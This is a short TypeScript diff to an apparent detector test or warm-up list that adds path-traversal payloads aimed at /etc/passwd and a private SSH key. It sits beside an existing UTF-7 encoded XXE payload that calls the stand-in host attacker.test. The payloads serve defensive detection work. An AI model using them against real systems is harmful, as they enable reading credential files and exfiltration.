@@ -38,6 +38,10 @@ const CLASSES: readonly DetectorClass[] = ['sqli', 'nosqli', 'shell', 'path-trav
  * the first UTF-7 document (src/detectors/xxe.ts).
  */
 const LAZY: Array<{ class: DetectorClass; payload: string }> = [
+  // path-traversal: the token analysis's tables (crown words by pair, names, extensions) are built at
+  // the first token it analyzes (src/detectors/path-traversal.ts buildTokenTables).
+  { class: 'path-traversal', payload: '....//....//etc/passwd' },
+  { class: 'path-traversal', payload: '../.ssh/id_rsa' },
   { class: 'xxe', payload: '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r+AFs-+ADw-!ENTITY x SYSTEM +ACI-http://attacker.test/x+ACI-+AD4-+AF0-+AD4-+ADw-r+AD4-+ACY-x+ADs-+ADw-/r+AD4-' },
 ];
 const ONE_EACH = [...CLASSES.map((c) => [...EXTRA, ...ATTACKS].find((a) => a.class === c)!), ...LAZY];
